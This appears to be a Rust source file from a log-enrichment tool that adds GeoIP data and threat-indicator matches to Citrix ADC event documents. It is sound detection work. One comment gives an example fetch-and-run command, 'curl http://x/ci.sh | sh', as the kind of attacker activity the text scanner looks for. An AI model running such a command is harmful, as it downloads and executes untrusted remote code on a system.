//! Enrich: a parsed event's ECS document gains GeoIP city and ASN data for each IP role and
//! `threat.enrichments` for every indicator it matches.
//!
//! Built once from the settings ([`Enricher::load`]); databases and feeds are shared read-only
//! snapshots behind `arc-swap`, so a reload never blocks the stream. [`Enricher::reload`] (run by a
//! background thread every `enrich.reload_interval`) re-reads whatever file changed: a good file is
//! swapped in atomically, a broken one is reported and the previous version stays in use.

pub mod feeds;
pub mod geoip;
pub mod ioc;

use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::SystemTime;

use arc_swap::ArcSwap;
use chrono::{DateTime, Utc};
use serde_json::{json, Value as Json};

use crate::config::{GeoRole, Settings};
use crate::doc::{Doc, Val};
use crate::parse::AdcEvent;
use feeds::Format;
use geoip::{DbKind, GeoDb};
use ioc::{FeedIndicators, Hit, IocIndex, Kind};

/// A file's identity for change detection: modification time, size and inode.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct FileStamp(Option<(SystemTime, u64, u64)>);

impl FileStamp {
    pub fn of(path: &Path) -> FileStamp {
        use std::os::unix::fs::MetadataExt;
        FileStamp(
            std::fs::metadata(path).ok().map(|m| (m.modified().unwrap_or(SystemTime::UNIX_EPOCH), m.len(), m.ino())),
        )
    }
}

#[derive(Debug, thiserror::Error)]
pub enum EnrichError {
    #[error(transparent)]
    Geo(#[from] geoip::GeoError),
    #[error(transparent)]
    Feed(#[from] feeds::FeedError),
    #[error("config key {key} = {value:?}: {reason}")]
    Config { key: String, value: String, reason: String },
}

struct Feed {
    name: String,
    path: PathBuf,
    format: Format,
    stamp: FileStamp,
    /// The last version that loaded.
    indicators: Arc<FeedIndicators>,
}

/// What one reload pass did to one file.
#[derive(Debug)]
pub struct ReloadEvent {
    pub component: String,
    /// What was loaded, or why the component keeps what it had.
    pub outcome: Result<String, ReloadError>,
}

/// Why a (re)load left a component without its new version.
#[derive(Debug, thiserror::Error)]
pub enum ReloadError {
    #[error("{0}; keeping the previous database")]
    Database(geoip::GeoError),
    /// A feed that did not load at start-up: left out until it loads.
    #[error(transparent)]
    FeedLeftOut(feeds::FeedError),
    #[error("{source}; keeping the previous {kept} indicators")]
    Feed { source: feeds::FeedError, kept: usize },
    /// An indicator that never matches (the rest of its feed does).
    #[error(transparent)]
    Indicator(#[from] ioc::IndicatorError),
    /// A background round panicked; `what` names the work.
    #[error("{what} panicked: {message}; keeping the previous version")]
    Panicked { what: String, message: String },
}

/// GeoIP answers for recently seen addresses (VPN clients and back-ends repeat): `geo`, `as`.
type GeoAnswer = (Option<Arc<geoip::CityAnswer>>, Option<Arc<geoip::AsnAnswer>>);

/// Most addresses the GeoIP cache holds (a concurrent cache that keeps the frequently seen ones); it is
/// emptied whenever a database is reloaded.
const GEO_CACHE_CAPACITY: usize = 16_384;

pub struct Enricher {
    city: Option<GeoDb>,
    asn: Option<GeoDb>,
    geo_cache: quick_cache::sync::Cache<IpAddr, GeoAnswer>,
    roles: Vec<GeoRole>,
    feeds: Mutex<Vec<Feed>>,
    /// `enrich.ioc.max_feed_bytes`.
    max_feed_bytes: u64,
    index: ArcSwap<IocIndex>,
}

impl Enricher {
    /// Opens every database and feed. `strict` (for `gatewatch check`) fails on a broken feed; otherwise
    /// the feed is left out, reported in the returned events, and picked up once it is fixed.
    pub fn load(settings: &Settings, strict: bool) -> Result<(Enricher, Vec<ReloadEvent>), EnrichError> {
        let e = &settings.enrich;
        let db = |kind: DbKind, path: &Option<PathBuf>| -> Result<Option<GeoDb>, EnrichError> {
            path.as_deref().map(|path| GeoDb::open(kind, path)).transpose().map_err(EnrichError::from)
        };
        let city = db(DbKind::City, &e.geoip.city_db)?;
        let asn = db(DbKind::Asn, &e.geoip.asn_db)?;
        let roles = e.geoip.roles.clone();
        let mut events = Vec::new();
        let mut loaded_feeds = Vec::new();
        let max_feed_bytes = e.ioc.max_feed_bytes.as_u64();
        for feed in &e.ioc.feeds {
            let path = feed.path.clone();
            let stamp = FileStamp::of(&path);
            let loaded = match feeds::load(&feed.name, &path, feed.format, max_feed_bytes) {
                Ok(loaded) => {
                    events.push(ReloadEvent {
                        component: format!("feed:{}", feed.name),
                        outcome: Ok(format!(
                            "{} indicators, {} skipped",
                            loaded.indicators.len(),
                            loaded.skipped.len()
                        )),
                    });
                    loaded.indicators
                }
                Err(error) if strict => return Err(error.into()),
                Err(error) => {
                    events.push(ReloadEvent {
                        component: format!("feed:{}", feed.name),
                        outcome: Err(ReloadError::FeedLeftOut(error)),
                    });
                    Vec::new()
                }
            };
            loaded_feeds.push(Feed {
                name: feed.name.clone(),
                path,
                format: feed.format,
                stamp,
                indicators: Arc::new(FeedIndicators { name: feed.name.as_str().into(), indicators: loaded }),
            });
        }
        let (index, invalid) = IocIndex::build(loaded_feeds.iter().map(|f| f.indicators.clone()).collect());
        if strict {
            if let Some(first) = invalid.first() {
                return Err(EnrichError::Config {
                    key: "enrich.ioc.feeds".into(),
                    value: first.to_string(),
                    reason: format!("{} invalid indicators", invalid.len()),
                });
            }
        }
        for error in invalid {
            events.push(ReloadEvent { component: "ioc-index".into(), outcome: Err(error.into()) });
        }
        let enricher = Enricher {
            city,
            asn,
            geo_cache: quick_cache::sync::Cache::new(GEO_CACHE_CAPACITY),
            roles,
            feeds: Mutex::new(loaded_feeds),
            max_feed_bytes,
            index: ArcSwap::from_pointee(index),
        };
        Ok((enricher, events))
    }

    pub fn indicator_count(&self) -> usize {
        self.index.load().len()
    }

    /// Re-reads every changed database and feed; see the module docs.
    pub fn reload(&self) -> Vec<ReloadEvent> {
        let mut events = Vec::new();
        for db in [&self.city, &self.asn].into_iter().flatten() {
            if let Some(result) = db.reload_if_changed() {
                if result.is_ok() {
                    // Cached answers came from the previous database.
                    self.geo_cache.clear();
                }
                let outcome = result.map(|()| db.database_type()).map_err(ReloadError::Database);
                events.push(ReloadEvent { component: db.kind.name().into(), outcome });
            }
        }
        let mut feeds = self.feeds.lock().expect("only the reloader locks the feeds");
        let mut changed = false;
        for feed in feeds.iter_mut() {
            let stamp = FileStamp::of(&feed.path);
            if stamp == feed.stamp {
                continue;
            }
            feed.stamp = stamp;
            let component = format!("feed:{}", feed.name);
            match feeds::load(&feed.name, &feed.path, feed.format, self.max_feed_bytes) {
                Ok(loaded) => {
                    let outcome =
                        Ok(format!("{} indicators, {} skipped", loaded.indicators.len(), loaded.skipped.len()));
                    feed.indicators =
                        Arc::new(FeedIndicators { name: feed.name.as_str().into(), indicators: loaded.indicators });
                    changed = true;
                    events.push(ReloadEvent { component, outcome });
                }
                Err(error) => events.push(ReloadEvent {
                    component,
                    outcome: Err(ReloadError::Feed { source: error, kept: feed.indicators.indicators.len() }),
                }),
            }
        }
        if changed {
            let (index, invalid) = IocIndex::build(feeds.iter().map(|f| f.indicators.clone()).collect());
            if invalid.is_empty() {
                events.push(ReloadEvent {
                    component: "ioc-index".into(),
                    outcome: Ok(format!("{} indicators", index.len())),
                });
            }
            for error in invalid {
                events.push(ReloadEvent { component: "ioc-index".into(), outcome: Err(error.into()) });
            }
            self.index.store(Arc::new(index));
        }
        events
    }

    /// Adds GeoIP and indicator matches to `doc` (the event's ECS document). Returns the number of
    /// indicator hits.
    pub fn enrich(&self, event: &AdcEvent<'_>, doc: &mut Doc<'_>, now: DateTime<Utc>) -> usize {
        let index = self.index.load();
        let mut hits: Vec<Hit<'_>> = Vec::new();
        for &role in &self.roles {
            let field = role.ip_field();
            let Some(ip) = event.fields.get_str(field).and_then(|s| s.parse::<IpAddr>().ok()) else { continue };
            self.geo(role, ip, doc);
            if !index.is_empty() {
                index.match_ip(ip, field, now, &mut hits);
            }
        }
        if !index.is_empty() {
            self.match_fields(&index, event, now, &mut hits);
        }
        if !hits.is_empty() {
            let enrichments: Vec<Json> = hits.iter().map(enrichment).collect();
            doc.insert("threat.enrichments", Val::Json(Json::Array(enrichments)));
        }
        hits.len()
    }

    /// `<role>.geo` and `<role>.as`: the cached answers for `ip`, shared (not copied) into the document.
    fn geo(&self, role: GeoRole, ip: IpAddr, doc: &mut Doc<'_>) {
        if let Some(special) = geoip::special_range(ip) {
            doc.set(role.geo_field(), Val::Fragment(geoip::special_geo(special)));
            return;
        }
        if self.city.is_none() && self.asn.is_none() {
            return;
        }
        let answer = match self.geo_cache.get(&ip) {
            Some(answer) => answer,
            None => {
                let answer: GeoAnswer = (
                    self.city.as_ref().and_then(|db| db.city(ip)).map(Arc::new),
                    self.asn.as_ref().and_then(|db| db.asn(ip)).map(Arc::new),
                );
                self.geo_cache.insert(ip, answer.clone());
                answer
            }
        };
        if let Some(city) = answer.0 {
            doc.set(role.geo_field(), Val::Fragment(city));
        }
        if let Some(asn) = answer.1 {
            doc.set(role.as_field(), Val::Fragment(asn));
        }
    }

    fn match_fields<'i>(&self, index: &'i IocIndex, event: &AdcEvent<'_>, now: DateTime<Utc>, hits: &mut Vec<Hit<'i>>) {
        let f = &event.fields;
        // The session's client as the `Context user@address` names it: usually the body's `Client_ip`
        // (`client.ip`, matched with the GeoIP roles), but not always, and an indicator list is matched
        // against every address a record names.
        if let Some(ip) = f.get_str(CONTEXT_CLIENT_IP).and_then(|s| s.parse::<IpAddr>().ok()) {
            if f.get_str("client.ip").and_then(|s| s.parse::<IpAddr>().ok()) != Some(ip) {
                index.match_ip(ip, CONTEXT_CLIENT_IP, now, hits);
            }
        }
        for field in ["url.domain", "destination.domain"] {
            if let Some(domain) = f.get_str(field) {
                index.match_domain(domain, field, now, hits);
            }
        }
        if let Some(url) = f.get_str("url.original") {
            index.match_url(url, "url.original", now, hits);
        }
        for field in ["url.path", "gatewatch.url.normalized_path"] {
            if let Some(path) = f.get_str(field) {
                index.match_url_path(path, field, now, hits);
            }
        }
        if let Some(agent) = f.get_str("user_agent.original") {
            index.match_user_agent(agent, "user_agent.original", now, hits);
        }
        for field in ["file.hash.md5", "file.hash.sha1", "file.hash.sha256"] {
            if let Some(hash) = f.get_str(field) {
                index.match_hash(hash, field, now, hits);
            }
        }
        for field in ["process.executable", "file.path"] {
            if let Some(path) = f.get_str(field) {
                index.match_file(path, field, now, hits);
            }
        }
        // Attacker infrastructure named inside commands and captured stderr (`curl http://x/ci.sh | sh`).
        for field in ["process.command_line", "citrix_adc.httperror.message"] {
            if let Some(text) = f.get_str(field) {
                scan_text(index, text, field, now, hits);
            }
        }
    }
}

/// The client address of an SSLVPN record's `Context user@address`.
const CONTEXT_CLIENT_IP: &str = "citrix_adc.log.context.client.ip";

/// Addresses, URLs (and their hosts) and absolute paths mentioned in free text.
fn scan_text<'i>(index: &'i IocIndex, text: &str, field: &'static str, now: DateTime<Utc>, hits: &mut Vec<Hit<'i>>) {
    for token in text.split(|c: char| c.is_whitespace() || "\"'`;|&()<>,".contains(c)) {
        if token.is_empty() {
            continue;
        }
        if let Ok(ip) = token.parse::<IpAddr>() {
            index.match_ip(ip, field, now, hits);
        } else if let Some((_, rest)) = token.split_once("://") {
            index.match_url(token, field, now, hits);
            let host = rest.split(['/', '?', ':']).next().unwrap_or("");
            match host.parse::<IpAddr>() {
                Ok(ip) => index.match_ip(ip, field, now, hits),
                Err(_) if !host.is_empty() => index.match_domain(host, field, now, hits),
                Err(_) => {}
            }
        } else if token.starts_with('/') {
            index.match_file(token, field, now, hits);
        }
    }
}

/// One ECS `threat.enrichments` entry.
fn enrichment(hit: &Hit<'_>) -> Json {
    let i = hit.indicator;
    let m = &i.meta;
    let mut indicator = json!({ "type": i.kind.ecs_type(), "name": &*i.value });
    let value = Json::from(&*i.value);
    match i.kind {
        Kind::Ipv4 | Kind::Ipv6 => indicator["ip"] = value.clone(),
        Kind::Cidr => indicator["gatewatch"] = json!({ "cidr": value }),
        Kind::Domain => indicator["url"] = json!({ "domain": value }),
        Kind::Url => indicator["url"] = json!({ "original": value }),
        Kind::UrlPattern => indicator["gatewatch"] = json!({ "url_pattern": value }),
        Kind::UserAgent | Kind::UserAgentPattern => indicator["gatewatch"] = json!({ "user_agent": value }),
        Kind::Md5 => indicator["file"] = json!({ "hash": { "md5": value } }),
        Kind::Sha1 => indicator["file"] = json!({ "hash": { "sha1": value } }),
        Kind::Sha256 => indicator["file"] = json!({ "hash": { "sha256": value } }),
        Kind::FilePath => indicator["file"] = json!({ "path": value }),
        Kind::FileName => indicator["file"] = json!({ "name": value }),
    }
    indicator["provider"] = Json::from(m.provider.as_deref().unwrap_or(hit.feed));
    for (key, value) in [
        ("confidence", &m.confidence),
        ("first_seen", &m.first_seen),
        ("last_seen", &m.last_seen),
        ("description", &m.description),
    ] {
        if let Some(v) = value {
            indicator[key] = Json::from(&**v);
        }
    }
    if !m.tags.is_empty() {
        indicator["tags"] = json!(m.tags.iter().map(|t| &**t).collect::<Vec<&str>>());
    }
    json!({
        "indicator": indicator,
        "matched": { "atomic": hit.atomic, "field": hit.field, "type": "indicator_match_rule" },
        "feed": { "name": hit.feed },
        "gatewatch": { "indicator_kind": i.kind.name() }
    })
}
